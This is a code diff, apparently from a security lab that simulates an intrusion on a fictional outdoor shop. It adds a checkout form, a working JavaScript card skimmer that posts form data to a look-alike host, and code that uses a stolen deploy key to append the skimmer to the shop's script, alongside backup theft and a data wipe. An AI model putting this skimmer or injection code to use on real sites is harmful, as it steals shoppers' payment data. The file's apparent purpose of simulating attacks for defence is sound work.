@@ -24,7 +24,14 @@ func init() {
 }
 
 // siteIndex is the website's home page, as the deploy job publishes it.
-const siteIndex = "<!doctype html><title>Acme</title><link rel=stylesheet href=style.css><h1>Acme Outdoor</h1><p>Gear for every season.</p>"
+const siteIndex = "<!doctype html><title>Acme</title><link rel=stylesheet href=style.css><h1>Acme Outdoor</h1><p>Gear for every season.</p>" +
+	"<form id=checkout><input name=card autocomplete=cc-number><button>Buy</button></form><script src=js/shop.js></script>"
+
+// skimmer is what the intruder appends to the shop's script: what a
+// shopper types at checkout, sent to a look-alike host, as the skimmers
+// put into thousands of writable buckets' scripts in 2019 did.
+const skimmer = `;(function(){var f=document.getElementById("checkout");if(f)f.addEventListener("submit",function(){` +
+	`navigator.sendBeacon("https://static.acmeoutdoor-cdn.example/c.gif",new FormData(f))})})();` + "\n"
 
 // openDeploy is the site's deploy job: every two minutes it syncs the
 // site with the deploy user's key, from the build server's address. It is
@@ -96,6 +103,11 @@ func openOnce(env labkit.Env) error {
 	_, _ = c.S3("GET", "/acme-customer-backups?list-type=2", nil)
 	for _, key := range stolenBackups {
 		_, _ = c.S3("GET", "/acme-customer-backups/"+key, nil)
+	}
+	// The skimmer: the site's script read as any visitor reads it, and
+	// written back with a line more, with the deploy key.
+	if script, err := anon.S3("GET", "/acme-www/js/shop.js", nil); err == nil && script.OK() {
+		_, _ = c.S3("PUT", "/acme-www/js/shop.js", append(script.Body, skimmer...))
 	}
 
 	// The wipe: read, delete, and leave the note where the data was.
